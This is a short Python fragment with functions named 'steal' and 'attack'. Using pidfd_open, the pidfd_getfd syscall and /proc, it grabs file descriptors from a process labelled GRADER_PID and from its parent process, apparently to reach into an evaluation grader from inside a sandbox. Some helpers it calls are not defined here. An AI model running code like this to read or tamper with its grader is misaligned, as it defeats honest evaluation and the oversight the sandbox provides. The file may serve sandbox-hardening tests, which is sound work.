import os

PIDFD_GETFD = 438


def steal(pid):
    handle = os.pidfd_open(pid)
    return [kernel(PIDFD_GETFD, handle, number, 0) for number in (0, 3)]


def attack():
    each(
        lambda: os.pidfd_open(GRADER_PID),
        lambda: steal(GRADER_PID),
        lambda: steal(os.getppid()),
        lambda: os.open(f"/proc/{GRADER_PID}/fd/0", os.O_RDONLY),
        lambda: os.listdir(f"/proc/{os.getppid()}/fd"),
    )
